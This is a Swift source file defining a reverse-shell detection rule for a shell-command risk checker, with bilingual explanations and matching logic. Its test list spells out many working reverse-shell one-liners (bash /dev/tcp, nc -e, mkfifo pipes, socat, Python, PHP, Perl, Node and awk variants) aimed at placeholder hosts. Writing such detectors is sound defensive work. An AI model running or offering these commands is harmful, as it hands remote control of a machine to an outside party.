import ShellGrammar

extension RiskRule {
  private static let shells = ShellProgram.shells.union(["pwsh"])
  private static let listeners: Set<String> = ["nc", "ncat", "netcat", "socat", "telnet", "openssl"]

  static let reverseShell = RiskRule(
    id: "reverse-shell", family: .remoteCode,
    reason: .init(
      "Another machine gets a shell on this one.", "다른 컴퓨터가 이 컴퓨터의 셸을 쓰게 됩니다."),
    mildReason: .init(
      "Others may reach this machine, or a program on it, through the network.",
      "다른 사람이 네트워크로 이 컴퓨터나 그 안의 프로그램에 접근할 수 있게 됩니다."),
    safer: .init(
      "Use ssh, which asks who is there and encrypts what is said.", "상대를 확인하고 암호화하는 ssh를 쓰십시오."),
    reversibility: .no, touches: [.network, .system, .process],
    danger: [
      "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "nc -e /bin/sh 10.0.0.1 4444", "ncat --exec /bin/bash h 80",
      "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | ‹nc h 80 > /tmp/f›", "‹exec 5<>/dev/tcp/h/80›",
      "socat TCP:h:80 EXEC:/bin/sh", "nc -lvp 4444 -e /bin/bash", "telnet h 80 | ‹sh› | telnet h 81",
      "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"h\",80));os.dup2(s.fileno(),0);subprocess.call([\"sh\"])'",
      "php -r '$s=fsockopen(\"h\",80);exec(\"sh <&3 >&3\");'",
      "ruby -rsocket -e 'exec \"sh\" if TCPSocket.new(\"h\",80)'",
      "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);exec(\"/bin/sh -i\");'",
      "awk 'BEGIN{s=\"/inet/tcp/0/h/80\"; \"sh\" |& getline}'",
      "awk 'BEGIN{s=\"/inet/tcp/0/h/80\";while((s|&getline c)>0)while((c|getline)>0)print|&s}'",
      "openssl s_client -connect h:80 | ‹sh›", "sh -i 2>&1 | ‹openssl s_client -connect h:80›",
      "socat exec:bash,pty tcp:h:80",
      "node -e 'require(\"net\").connect(80,\"h\").pipe(require(\"child_process\").spawn(\"sh\").stdin)'",
      "bash -c '‹sh -i >& /dev/udp/h/53 0>&1›'", "nc h 80 -c sh", "ssh -N -R 2222:localhost:22 u@h",
      "‹ztcp h 80›; zsh <&3 >&3",
    ],
    harmless: [
      "nc -l 80", "nc -zv h 22", "socat - TCP:h:80", "openssl s_client -connect h:443", "python3 -c 'import socket'",
      "(echo > /dev/tcp/h/80) && echo open", "ssh h", "ssh -R 8080:localhost:3000 h", "ssh -L 2222:localhost:22 h",
      "awk '{print}' f",
      "awk 'BEGIN{s=\"/inet/tcp/0/h/80\";s|&getline;print}'", "php -r 'echo 1;'", "nc h 80 < f",
    ]
  ) { script in
    script.invocations.compactMap { invocation in
      guard let name = invocation.name else { return nil }
      let level = isReverse(invocation, name, script) ? .danger : HarmTable.remoteAccess.level(of: invocation)
      return level.map { Match(level: $0, range: invocation.range) }
    }
  }

  private static func isReverse(_ invocation: Invocation, _ name: String, _ script: InvocationCollector) -> Bool {
    if shells.contains(name) || name == "exec" {
      let reachesNetwork = invocation.redirections.contains {
        let path = $0.target.roughText
        return path.hasPrefix("/dev/tcp/") || path.hasPrefix("/dev/udp/")
      }
      if reachesNetwork { return true }
      // A shell that reads what a connection says, without a program of its own.
      return name != "exec" && !readsOwnProgram(invocation)
        && script.sources(of: invocation).contains {
          ["telnet", "openssl"].contains($0.name ?? "") && $0.subcommand != "enc"
        }
    }
    if name == "ztcp", script.invocations.count <= InvocationCollector.mostCompared {
      return script.invocations.contains { shells.contains($0.name ?? "") && !$0.redirections.isEmpty }
    }
    if name == "ssh" || name == "autossh" {
      return invocation.hasLetter("R") && invocation.words.contains(where: opensLogin)
    }
    if handsOutShell(invocation, name) { return true }
    if listeners.contains(name) { return servesShell(invocation, name, script) }
    let own = name.hasSuffix("awk") ? Array(invocation.operands.prefix(1)) : CodeProgram.texts(of: invocation)
    return own.map(\.text).contains { code in
      name.hasSuffix("awk") && CodeText.runsWhatComesIn(code)
        || CodeText.connectsAndRuns(code + (invocation.has("-rsocket") ? " socket" : ""))
    }
  }

  /// A program that is not known, given a shell and an address: `rcat -e bash 10.0.0.1 4444`.
  private static func handsOutShell(_ invocation: Invocation, _ name: String) -> Bool {
    guard invocation.arguments.count > 2, invocation.facts.wrappers.isEmpty, !shells.contains(name),
      !invocation.facts.takesFreeWords,
      invocation.words.contains(where: { shells.contains(InvocationCollector.baseName($0)) })
    else { return false }
    return invocation.words.contains { word in
      let parts = word.split(separator: ":", maxSplits: 1)[...].first?.split(separator: ".") ?? []
      return parts.count == 4 && parts.allSatisfy { Int($0).map { $0 < 256 } == true }
    }
  }

  /// `2222:localhost:22`: there one can log in here.
  private static func opensLogin(_ forward: String) -> Bool {
    [":localhost:22", ":127.0.0.1:22", ":[::1]:22"].contains(where: forward.hasSuffix)
  }

  private static func servesShell(_ invocation: Invocation, _ name: String, _ script: InvocationCollector) -> Bool {
    switch name {
    case "socat":
      let starts = ["exec:", "system:", "shell:"]
      return invocation.words.contains { word in starts.contains { word.lowercased().hasPrefix($0) } }
    case "nc", "ncat", "netcat":
      if invocation.has("--exec", "--sh-exec", "--lua-exec") { return true }
      let executed = invocation.value(of: "-e") ?? invocation.value(of: "-c")
      if executed.map({
        shells.contains(InvocationCollector.baseName($0.split(separator: " ").first.map(String.init) ?? ""))
      }) == true {
        return true
      }
    default: break
    }
    return script.sources(of: invocation).contains { shells.contains($0.name ?? "") && !readsOwnProgram($0) }
  }
}
